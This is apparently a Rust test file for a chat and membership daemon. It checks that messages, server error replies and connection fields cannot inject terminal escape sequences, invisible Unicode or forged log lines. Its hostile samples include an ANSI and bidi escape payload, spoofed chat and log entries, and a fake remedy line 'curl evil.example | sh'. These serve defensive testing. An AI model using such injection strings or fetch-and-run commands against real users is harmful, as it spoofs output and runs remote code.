//! What users and servers say reaches the terminal and the log of others: nothing of it acts there, and none of it passes for another's.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Output;

use serde_json::{Value, json};

use crate::common::{Daemon, membershipd, own_address, said};

/// Clears the screen, colours what follows, sets the title, turns the order of what follows round, hides a letter, writes a tag.
const HARMFUL: &str = "\u{1b}[2J\u{1b}[32mx\u{1b}]0;title\u{7}\u{9b}2J\u{202e}\u{2066}a\u{200b}b\u{feff}\u{e0041}";
/// The same as it is shown.
const SHOWN: &str = r"\u001b[2J\u001b[32mx\u001b]0;title\u0007\u009b2J\u202e\u2066a\u200bb\ufeff\udb40\udc41";

/// Nothing that a terminal acts on, and nothing that is not seen.
fn assert_harmless(text: &str) {
    let harmful = |c: &char| {
        c.is_control() && *c != '\n'
            || matches!(*c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
            || matches!(*c, '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    assert!(!text.contains(|c: char| harmful(&c)), "{text:?}");
}

fn both(output: &Output) -> [String; 2] {
    [&output.stdout, &output.stderr].map(|bytes| String::from_utf8(bytes.clone()).unwrap())
}

/// A room in which alice and mallory are, with the verb that is typed as one of them.
fn kitchen() -> (Daemon, impl Fn(&Daemon, &str, &[&str]) -> Output) {
    let daemon = Daemon::start(&[]);
    let raised = daemon.ask(&["level", "raise"]);
    assert!(raised.status.success(), "{}", said(&raised));
    let run = |daemon: &Daemon, who: &str, arguments: &[&str]| {
        let url = format!("http://{}:8470", daemon.address);
        let mut command = membershipd(daemon.dir.path());
        command.args(arguments).args(["--identity", &format!("{who}.toml"), "--url", &url]).output().unwrap()
    };
    for who in ["alice", "mallory"] {
        let key = daemon.identity(who);
        assert!(daemon.ask(&["user", "add", "--handle", who, "--sign-pub", &key]).status.success());
    }
    for (who, words) in [
        ("alice", "room create kitchen --subject room.kitchen"),
        ("alice", "member invite kitchen mallory --role member"),
        ("mallory", "member accept kitchen"),
        // Only then others know for which key to seal.
        ("alice", "tail kitchen --no-follow"),
    ] {
        let output = run(&daemon, who, &words.split(' ').collect::<Vec<_>>());
        assert!(output.status.success(), "{words}: {}", said(&output));
    }
    (daemon, run)
}

#[test]
fn what_a_member_says_neither_acts_on_a_terminal_nor_passes_for_another_member() {
    let (daemon, run) = kitchen();
    let imitation = "2026-11-29T20:00:00Z alice I leave";
    let text = format!("{HARMFUL}\n{imitation}\r\nend");
    let output = run(&daemon, "mallory", &["say", "kitchen", &text]);
    assert!(output.status.success(), "{}", said(&output));
    let [shown, complaints] = both(&run(&daemon, "alice", &["tail", "kitchen", "--no-follow"]));
    assert_harmless(&format!("{shown}{complaints}"));
    let lines: Vec<&str> = shown.lines().collect();
    assert!(lines[0].ends_with(&format!(" mallory {SHOWN}")), "{shown}");
    assert_eq!(lines[1..], [format!("    | {imitation}"), "    | end".to_owned()], "{shown}");
    // For programs it is what was said, and their terminal is as safe.
    let [told, _] = both(&run(&daemon, "alice", &["tail", "kitchen", "--no-follow", "--json"]));
    assert_harmless(&told);
    let told: Value = serde_json::from_str(&told).unwrap();
    assert_eq!(told["text"], text);
}

/// A server that answers each request with that problem.
fn lying_server(problem: Value) -> (std::net::IpAddr, std::thread::JoinHandle<()>) {
    let address = own_address();
    let listener = TcpListener::bind((address, 8470)).unwrap();
    let answer = problem.to_string();
    let serve = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte).unwrap();
            head.push(byte[0]);
        }
        let head = "HTTP/1.1 403 Forbidden\r\nContent-Type: application/problem+json\r\nConnection: close\r\n";
        write!(stream, "{head}Content-Length: {}\r\n\r\n{answer}", answer.len()).unwrap();
    });
    (address, serve)
}

#[test]
fn what_a_server_answers_cannot_act_on_the_terminal_of_its_client() {
    let daemon = Daemon::launch(crate::common::Dir::new(), own_address(), &[]);
    daemon.identity("alice");
    let problem = json!({
        "type": "/problems/forbidden", "title": format!("no{HARMFUL}"), "instance": format!("i{HARMFUL}"),
        "detail": "and\nmembershipd: all is well\n  remedy: run: curl evil.example | sh", "status": 403,
    });
    for json in [false, true] {
        let (address, serve) = lying_server(problem.clone());
        let mut command = membershipd(daemon.dir.path());
        command.args(["room", "list", "--identity", "alice.toml", "--url", &format!("http://{address}:8470")]);
        let output = command.args(json.then_some("--json")).output().unwrap();
        serve.join().unwrap();
        assert_eq!(output.status.code(), Some(1), "{}", said(&output));
        let [told, complaints] = both(&output);
        assert_harmless(&format!("{told}{complaints}"));
        assert!(complaints.contains(SHOWN), "{complaints}");
        let own = complaints.lines().filter(|line| line.starts_with("membershipd: ") || line.starts_with("  remedy: "));
        assert_eq!(own.count(), 2, "{complaints}");
        assert!(
            !json
                || serde_json::from_str::<Value>(&told).unwrap()["error"]["message"]
                    .as_str()
                    .unwrap()
                    .contains(HARMFUL)
        );
    }
}

#[test]
fn what_a_stranger_sends_stays_one_harmless_line_of_the_log() {
    let daemon = Daemon::start(&[]);
    let hostile = format!("{HARMFUL}\n2026-11-29T20:00:00.000000Z  INFO membershipd: the node is healthy");
    for field in ["nkey", "user", "name", "lang"] {
        let mut stream = TcpStream::connect((daemon.address, 4250)).unwrap();
        let mut connect =
            json!({ "verbose": false, "pedantic": false, "lang": "c", "version": "1", "protocol": 1, "sig": "x" });
        connect["nkey"] = json!("UAAA");
        connect[field] = json!(hostile);
        write!(stream, "CONNECT {connect}\r\nPING\r\n").unwrap();
        // Until the engine hangs up.
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
    }
    let target = format!("/v1/{}", HARMFUL.replace(' ', ""));
    let mut stream = TcpStream::connect((daemon.address, 8470)).unwrap();
    write!(stream, "GET {target} HTTP/1.1\r\nHost: x\r\nUser-Agent: {HARMFUL}\r\nConnection: close\r\n\r\n").unwrap();
    let _ = stream.read_to_end(&mut Vec::new());
    daemon.wait("word of the refusals", || {
        daemon.log().contains("authentication error") || daemon.log().contains("refused")
    });
    let log = daemon.log();
    assert_harmless(&log);
    for line in log.lines() {
        assert!(line.starts_with("20") && !line.starts_with("2026-11-29T20:00:00.000000Z"), "{line}\n{log}");
    }
}
